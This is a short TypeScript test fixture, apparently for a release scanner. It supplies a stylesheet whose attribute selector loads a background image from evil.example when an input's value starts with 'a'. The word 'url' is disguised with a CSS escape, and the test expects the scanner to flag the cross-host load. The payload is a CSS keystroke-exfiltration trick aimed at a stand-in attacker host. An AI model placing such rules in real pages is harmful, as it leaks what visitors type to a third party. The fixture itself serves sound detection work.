import { hostileFixture } from './hostile-release'

/** Tells another host what a visitor types, letter by letter, spelt by escapes. */
export const release = hostileFixture(
  { content: { 'client/courses.css': 'input[value^=a]{background:u\\72l(https://evil.example/a)}' } },
  /page \/courses of catalog\/courses-page \(catalog@0\.2\.0\) has a style sheet, .*, that loads https:\/\/evil\.example\/a, of another host/,
)
